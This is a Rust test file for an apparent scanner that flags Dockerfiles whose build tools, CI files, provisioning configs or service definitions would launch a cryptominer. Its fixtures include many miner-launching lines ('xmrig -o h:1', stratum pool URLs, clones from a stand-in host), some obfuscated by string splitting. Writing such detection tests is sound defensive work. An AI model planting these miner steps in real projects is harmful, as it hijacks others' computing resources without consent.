//! Build tools, supervisors and servers that start what their files say, and for each kind one that starts no miner.

use super::cases::{Case, all_pass, all_stop};

const BUILD_TOOLS_THAT_MINE: &[Case] = &[
    (
        "COPY . /s\nRUN scons",
        &[(
            "SConstruct",
            "n = 'xm' + 'rig'\nenv.Command('a', [], 'git clone https://h/%s' % n)\nenv.Command('b', 'a', 'xmrig -o h:1')\n",
        )],
    ),
    ("COPY . /s\nRUN ./waf build", &[("wscript", "def build(b):\n  b(rule='xmrig -o h:1')\n")]),
    (
        "COPY . /s\nRUN nox",
        &[("noxfile.py", "@nox.session\ndef a(session):\n  session.run('xmrig', '-o', 'h:1')\n")],
    ),
    ("COPY . /s\nRUN fab a", &[("fabfile.py", "def a(c):\n  c.run('xmrig -o h:1')\n")]),
    (
        "COPY . /s\nRUN xmake",
        &[("xmake.lua", "on_build(function (t) os.execv('xmrig', {'-o', 'h:1'}) end)\n")],
    ),
    (
        "COPY . /s\nRUN zig build",
        &[("build.zig", "const a = b.addSystemCommand(&.{ \"xmrig\", \"-o\", \"h:1\" });\n")],
    ),
    (
        "COPY . /s\nRUN nimble a",
        &[("a.nimble", "task a, \"a\":\n  exec \"xm\" & \"rig -o h:1\"\n")],
    ),
    ("COPY . /s\nRUN dub build", &[("dub.json", "{\"preBuildCommands\": [\"xmrig -o h:1\"]}\n")]),
    (
        "COPY . /s\nRUN tox",
        &[("tox.ini", "[testenv:a]\nn = xmrig\ncommands = {[testenv:a]n} -o h:1\n")],
    ),
    (
        "COPY . /s\nRUN puppet apply a.pp",
        &[("a.pp", "$n = 'xmrig'\nexec { 'a': command => \"/opt/${n} -o h:1\" }\n")],
    ),
    (
        "COPY . /s\nCMD [\"bb\", \"a\"]",
        &[("bb.edn", "{:tasks {a (babashka.process/process [\"xmrig\" \"-o\" \"h:1\"])}}\n")],
    ),
    (
        "COPY . /s\nRUN bitbake a",
        &[("a.bb", "SRC_URI = \"git://github.com/xmrig/xmrig.git;branch=master\"\n")],
    ),
    (
        "COPY . /s\nRUN dotnet publish",
        &[(
            "a.csproj",
            "<Project><PropertyGroup><T>xmrig</T></PropertyGroup><DownloadFile SourceUrl=\"https://github.com/$(T)/$(T)\" /></Project>\n",
        )],
    ),
    (
        "COPY . /s\nRUN jupyter nbconvert --execute a.ipynb",
        &[("a.ipynb", "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!xmrig -o h:1\"]}]}\n")],
    ),
    (
        "COPY . /s\nRUN gitlab-runner exec shell a",
        &[(".gitlab-ci.yml", "a:\n  script:\n    - xmrig -o h:1\n")],
    ),
];

const BUILD_TOOLS_THAT_DO_NOT: &[Case] = &[
    // nothing runs the tool
    ("COPY . /s\nRUN true", &[(".gitlab-ci.yml", "a:\n  script:\n    - xmrig -o h:1\n")]),
    (
        "COPY . /s\nRUN true",
        &[("a.bb", "SRC_URI = \"git://github.com/xmrig/xmrig.git;branch=master\"\n")],
    ),
    (
        "COPY . /s\nRUN bitbake a",
        &[("a.bb", "# not https://github.com/xmrig/xmrig\nHOMEPAGE = \"https://h/a\"\n")],
    ),
    (
        "COPY . /s\nRUN jupyter nbconvert --execute a.ipynb",
        &[(
            "a.ipynb",
            "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"!xmrig -o h:1\"]}]}\n",
        )],
    ),
    (
        "COPY . /s\nRUN scons",
        &[("SConstruct", "env.Command('v', [], 'git describe --always > $TARGET')\n")],
    ),
    ("COPY . /s\nRUN nox", &[("noxfile.py", "def a(session):\n  session.run('pytest', '-q')\n")]),
];

#[test]
fn files_of_build_tools_run_what_they_name() {
    all_stop("STOP[min", BUILD_TOOLS_THAT_MINE);
    all_pass(BUILD_TOOLS_THAT_DO_NOT);
}

#[test]
fn provisioning_runs_what_it_says() {
    all_stop(
        "STOP[min",
        &[
            (
                "COPY . /srv/salt\nRUN salt-call --local state.apply",
                &[(
                    "a.sls",
                    "{% set n = 'xm' ~ 'rig' %}\na:\n  cmd.run:\n    - name: {{ n }} -o h:1\n",
                )],
            ),
            ("COPY . /s\nRUN earthly +a", &[("Earthfile", "a:\n  RUN xmrig -o h:1\n")]),
            (
                "COPY a.def /s/\nRUN apptainer build a.sif /s/a.def",
                &[("a.def", "Bootstrap: docker\n%post\n  xmrig -o h:1\n")],
            ),
            (
                "COPY user-data /var/lib/cloud/seed/nocloud/",
                &[("user-data", "#cloud-config\nruncmd:\n  - [xmrig, -o, 'h:1']\n")],
            ),
            (
                "COPY a.container /etc/containers/systemd/",
                &[("a.container", "[Container]\nImage=docker.io/metal3d/xmrig\nExec=-o h:1\n")],
            ),
            (
                "COPY a.yaml /var/lib/rancher/k3s/server/manifests/",
                &[(
                    "a.yaml",
                    "kind: HelmChart\nspec:\n  valuesContent: |-\n    image: metal3d/xmrig\n",
                )],
            ),
            (
                "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
                &[(
                    "a.hcl",
                    "config {\n  command = \"/opt/a\"\n  args = [\"-o\", \"stratum+tcp://h:1\"]\n}\n",
                )],
            ),
            (
                "COPY a.json /consul/config/",
                &[(
                    "a.json",
                    "{\"check\": {\"args\": [\"/opt/a\", \"-o\", \"stratum+tcp://h:1\"]}}\n",
                )],
            ),
        ],
    );
    all_pass(&[
        (
            "COPY . /srv/salt\nRUN salt-call --local state.apply",
            &[(
                "a.sls",
                "a:\n  cmd.run:\n    - name: pkill xmrig\n  file.absent:\n    - name: /tmp/xmrig\n",
            )],
        ),
        (
            "COPY user-data /var/lib/cloud/seed/nocloud/",
            &[("user-data", "#cloud-config\npackages: [nginx]\nruncmd:\n  - pkill xmrig\n")],
        ),
        (
            "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
            &[(
                "a.hcl",
                "config {\n  image = \"nginx:1.27\"\n  args = [\"-g\", \"daemon off;\"]\n}\n",
            )],
        ),
        ("COPY a.def /s/", &[("a.def", "%post\n  xmrig -o h:1\n")]),
    ]);
}
